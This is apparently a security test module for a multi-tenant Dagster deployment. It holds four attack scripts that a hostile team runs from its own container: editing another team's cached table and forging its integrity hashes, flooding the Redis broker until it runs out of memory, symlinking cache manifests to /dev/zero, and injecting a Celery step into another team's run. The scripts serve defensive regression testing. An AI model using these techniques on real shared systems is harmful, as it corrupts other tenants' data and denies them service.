"""What a hostile team tries, from its own container with its own credentials, against the
layers every team shares besides the stores' access rules: the artifact-cache volume (a cached
file edited together with the hashes the cache checks it by) and the broker's memory (filled
by the team's own queue). Each runs as `python -c SCRIPT` in the attacker's container."""

# The bakery's cached `baked_cakes` table, on the volume every team mounts: its rows replaced
# by one cake of 99,999 slices, with the file's new size and xxh128 written into entry.json
# and checks/ (what the cache checked a file by before the producer signed its seal). Prints
# how many entries it edited.
EDIT_THE_BAKERYS_CACHED_TABLE = r"""
import json, pathlib
from dagster_wandb_io.cache import tree_xxh128_file

root = pathlib.Path("/opt/dagster/artifact-cache")
edited = 0
for manifest_path in root.rglob("cache/bakery/cakes/baked_cakes/*/entry.json"):
    entry = manifest_path.parent
    manifest = json.loads(manifest_path.read_text())
    for logical in [name for name in manifest["files"] if name.endswith(".table.json")]:
        path = entry / "files" / logical
        table = json.loads(path.read_text())
        row = list(table["data"][0])
        row[table["columns"].index("slices")] = 99999
        content = json.dumps({**table, "data": [row]}).encode()
        path.chmod(0o644)
        path.write_bytes(content)
        xxh128 = tree_xxh128_file(path)
        manifest["files"][logical].update(size=len(content), xxh128=xxh128)
        for check in (entry / "checks").glob("*.json"):
            check.write_text(json.dumps({**json.loads(check.read_text()), "xxh128": xxh128}))
        edited += 1
    manifest_path.write_text(json.dumps(manifest))
print(edited)
"""

# The team's own queue flooded (its own keys, which its Redis user may write) until Redis
# refuses: prints "full" once it does. With "clean", deletes what it wrote.
FLOOD_OWN_QUEUE = r"""
import os, sys, redis
from dagster_team_celery.settings import key_prefix

broker = redis.Redis.from_url(os.environ["DAGSTER_CELERY_BROKER_URL"])
flood = key_prefix(os.environ["DAGSTER_TEAM"]) + "flood"
if sys.argv[1:] == ["clean"]:
    broker.delete(flood)
    print("cleaned")
else:
    try:
        for _ in range(100_000):
            broker.lpush(flood, b"x" * 65536)
        print("never full")
    except redis.exceptions.OutOfMemoryError:
        print("full")
"""

# The bakery's cached entry.json replaced by a link to /dev/zero: before reads were bounded, the
# reading step grew until a MemoryError (9 s); a FIFO hung it for ever. Prints how many.
LINK_THE_BAKERYS_MANIFEST_TO_DEV_ZERO = r"""
import os, pathlib

root = pathlib.Path("/opt/dagster/artifact-cache")
linked = 0
for manifest_path in root.rglob("cache/bakery/cakes/baked_cakes/*/entry.json"):
    manifest_path.unlink()
    os.symlink("/dev/zero", manifest_path)
    linked += 1
print(linked)
"""

# A step task on the team's own queue (its own Redis user, its own code) naming another team's
# run, argv[1]: before the step worker checked the run's code, it ran the step and wrote its
# events into that run. Prints how the team's own worker answered.
STEP_OF_ANOTHER_TEAMS_RUN = r"""
import os, sys
from dagster._core.definitions.reconstruct import ReconstructableJob, ReconstructableRepository
from dagster._core.execution.retries import RetryMode
from dagster._grpc.types import ExecuteStepArgs
from dagster_celery.config import TASK_EXECUTE_PLAN_NAME
from dagster_shared.serdes import pack_value
from dagster_team_celery.control import team_app

team = os.environ["DAGSTER_TEAM"]
own = ReconstructableJob(
    ReconstructableRepository.for_module(f"{team}.definitions", "defs", os.getcwd()), "probe_ping"
)
args = ExecuteStepArgs(
    job_origin=own.get_python_origin(),
    run_id=sys.argv[1],
    step_keys_to_execute=["report_runtime"],
    instance_ref=None,
    retry_mode=RetryMode.DISABLED,
)
sent = team_app(team).send_task(
    TASK_EXECUTE_PLAN_NAME, args=(pack_value(args), own.to_dict()), queue=team
)
try:
    sent.get(timeout=120)
    print("ALLOWED")
except Exception as error:
    print("refused", type(error).__name__, str(error).splitlines()[0])
"""
